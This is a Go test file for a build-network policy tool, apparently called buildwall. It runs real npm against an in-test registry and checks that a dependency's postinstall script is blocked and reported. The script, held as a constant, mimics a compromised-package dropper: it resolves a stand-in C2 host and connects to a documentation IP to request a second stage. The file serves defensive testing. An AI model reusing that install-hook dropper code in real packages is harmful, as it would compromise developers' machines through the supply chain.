package session

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/buildwall/buildwall/internal/event"
)

// fakeRegistry serves npm packuments and tarballs generated in the test.
// Tarball URLs name registry.test, the name the build reaches it by.
type fakeRegistry struct {
	packuments map[string][]byte
	tarballs   map[string][]byte
}

func tgz(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

func (r *fakeRegistry) add(t *testing.T, name string, files map[string]string, scripts map[string]string) {
	t.Helper()
	manifest := map[string]any{"name": name, "version": "1.0.0", "main": "index.js"}
	if scripts != nil {
		manifest["scripts"] = scripts
	}
	pj, _ := json.Marshal(manifest)
	files["package.json"] = string(pj)
	tb := tgz(t, files)
	s512 := sha512.Sum512(tb)
	s1 := sha1.Sum(tb)
	file := name + "-1.0.0.tgz"
	r.tarballs["/"+name+"/-/"+file] = tb
	v := map[string]any{
		"name": name, "version": "1.0.0",
		"dist": map[string]any{
			"tarball":   "http://registry.test/" + name + "/-/" + file,
			"integrity": "sha512-" + base64.StdEncoding.EncodeToString(s512[:]),
			"shasum":    hex.EncodeToString(s1[:]),
		},
	}
	if scripts != nil {
		v["scripts"] = scripts
		v["hasInstallScript"] = true
	}
	pm, _ := json.Marshal(map[string]any{
		"name": name, "dist-tags": map[string]string{"latest": "1.0.0"},
		"versions": map[string]any{"1.0.0": v},
	})
	r.packuments["/"+name] = pm
}

func (r *fakeRegistry) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	if b, ok := r.packuments[req.URL.Path]; ok {
		w.Header().Set("Content-Type", "application/json")
		w.Write(b)
		return
	}
	if b, ok := r.tarballs[req.URL.Path]; ok {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(b)
		return
	}
	http.NotFound(w, req)
}

// postinstall is what a compromised package runs: it looks up a
// command-and-control name and asks a hard-coded address for its second
// stage (as the axios dropper did), then exits 0 so that the install itself
// succeeds (as real droppers do). It waits for the answer: a client that
// closes its socket right after connect() returns (the kernel completes the
// handshake before buildwall accepts) may be gone before attribution looks.
const postinstall = `
const dns = require('dns'), net = require('net');
let pending = 2;
const done = () => { if (--pending === 0) process.exit(0); };
dns.lookup('c2.exfil.test', (err, addr) => { console.log('lookup', err ? err.code : addr); done(); });
let over = false;
const sockDone = (what) => { if (!over) { over = true; console.log('connect', what); done(); } };
const s = net.connect({host: '192.0.2.10', port: 8000});
s.on('connect', () => s.write('GET /stage2 HTTP/1.1\r\nHost: 192.0.2.10:8000\r\n\r\n'));
s.on('data', () => { sockDone('answered'); s.destroy(); });
s.on('error', (e) => sockDone(e.code));
s.on('close', () => sockDone('closed'));
setTimeout(() => process.exit(0), 10000);
`

// TestRealNPM: the real npm installs a project from an in-test registry
// reached as registry.test through the policy; a dependency's postinstall
// script that reaches for other hosts is blocked and reported with the
// process that tried.
func TestRealNPM(t *testing.T) {
	npm, err := exec.LookPath("npm")
	if err != nil {
		t.Skip("npm not installed (CI installs node and npm)")
	}
	if _, err := exec.LookPath("node"); err != nil {
		t.Skip("node not installed")
	}
	reg := &fakeRegistry{packuments: map[string][]byte{}, tarballs: map[string][]byte{}}
	reg.add(t, "bw-left", map[string]string{"index.js": "module.exports = 'left';\n"}, nil)
	reg.add(t, "bw-dropper", map[string]string{"index.js": "module.exports = 1;\n", "postinstall.js": postinstall}, map[string]string{"postinstall": "node postinstall.js"})
	srv := httptest.NewServer(reg)
	defer srv.Close()

	w := newWorld(t)
	w.routes["registry.test:80"] = srv.Listener.Addr().String()

	project := t.TempDir()
	pj := `{"name":"app","version":"1.0.0","private":true,"dependencies":{"bw-left":"1.0.0","bw-dropper":"1.0.0"}}`
	if err := os.WriteFile(filepath.Join(project, "package.json"), []byte(pj), 0o644); err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	env := []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + home,
		"npm_config_cache=" + filepath.Join(home, "cache"),
		"npm_config_registry=http://registry.test/",
		"npm_config_audit=false", "npm_config_fund=false", "npm_config_update_notifier=false",
		"npm_config_loglevel=warn",
	}
	oc := w.run(t, "mode: block\nallow: [registry.test]\n", []string{npm, "install"}, func(o *Options) {
		o.Dir, o.Env = project, env
	})
	if oc.err != nil {
		t.Fatalf("Run: %v", oc.err)
	}
	if oc.res.CommandExit != 0 {
		t.Fatalf("npm install exited %d:\n%s", oc.res.CommandExit, oc.out)
	}
	if oc.res.ExitCode != ExitBlocked {
		t.Errorf("exit code %d, want %d (something was blocked)", oc.res.ExitCode, ExitBlocked)
	}
	if b, err := os.ReadFile(filepath.Join(project, "node_modules", "bw-left", "index.js")); err != nil || !strings.Contains(string(b), "left") {
		t.Errorf("bw-left not installed: %v", err)
	}
	if !strings.Contains(oc.out, "lookup ENOTFOUND") || !strings.Contains(oc.out, "connect ECONNRESET") && !strings.Contains(oc.out, "connect ECONNREFUSED") {
		t.Logf("postinstall output not seen (npm may hide script output): %q", oc.out)
	}
	for _, want := range []event.Event{
		{Kind: event.KindConnect, Verdict: event.VerdictAllow, Name: "registry.test", Rule: "registry.test", Cmdline: "npm"},
		{Kind: event.KindDNS, Verdict: event.VerdictBlock, Name: "c2.exfil.test", Cmdline: "node postinstall.js"},
		{Kind: event.KindConnect, Verdict: event.VerdictBlock, IP: "192.0.2.10", Port: 8000, Cmdline: "node postinstall.js"},
	} {
		got := find(oc.events, want)
		if len(got) == 0 {
			t.Errorf("no event like %+v:\n%s", want, dumpEvents(oc.events))
			continue
		}
		if got[0].PID == 0 {
			t.Errorf("event %+v has no pid", got[0])
		}
	}
	_, dials, _ := w.snapshot()
	for _, d := range dials {
		if !strings.HasPrefix(d, "registry.test:") {
			t.Errorf("the proxy dialed %s", d)
		}
	}
}
